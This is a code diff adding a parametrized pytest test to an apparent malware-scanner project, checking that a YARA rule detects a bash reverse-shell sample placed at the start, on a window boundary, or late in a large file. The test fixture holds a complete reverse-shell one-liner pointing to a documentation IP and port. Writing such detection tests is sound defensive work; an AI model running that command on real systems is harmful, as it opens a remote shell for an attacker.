@@ -124,3 +124,22 @@ def test_scan_package_finds_eicar_in_a_covered_tar_gz(tmp_path, clamd):
     ]
     assert progress[-1][0] == "verdict"
     assert [p for p in tmp_path.iterdir() if p.name != "app.tar.gz"] == []
+
+
+@pytest.mark.parametrize("where", ["start", "boundary", "last-window"])
+def test_yara_matches_a_large_file_window_by_window(tmp_path, where):
+    from scanner.engines import yara_rules
+
+    sample = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+    offset = {
+        "start": 0,
+        "boundary": yara_rules.WINDOW - len(sample) // 2,  # straddles two windows
+        "last-window": yara_rules.WHOLE_FILE + 3 * 1024**2,
+    }[where]
+    path = tmp_path / "large.bin"
+    with open(path, "wb") as f:
+        f.truncate(yara_rules.WHOLE_FILE + 5 * 1024**2)
+        f.seek(offset)
+        f.write(sample)
+    rules = yara_rules.load_rules()
+    assert rules.match(path, sample[:8]) == ["YARA.Assay_ReverseShell_Bash"]
